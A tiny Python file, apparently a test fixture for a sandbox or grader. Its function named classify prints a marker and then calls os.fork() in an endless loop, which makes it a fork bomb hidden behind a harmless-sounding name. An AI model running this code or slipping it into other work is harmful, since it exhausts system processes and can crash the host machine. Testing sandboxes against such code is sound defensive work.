"""Forks without end in a call."""

import os


def classify(x):
    print("TRIED", flush=True)
    while True:
        try:
            os.fork()
        except OSError:
            pass
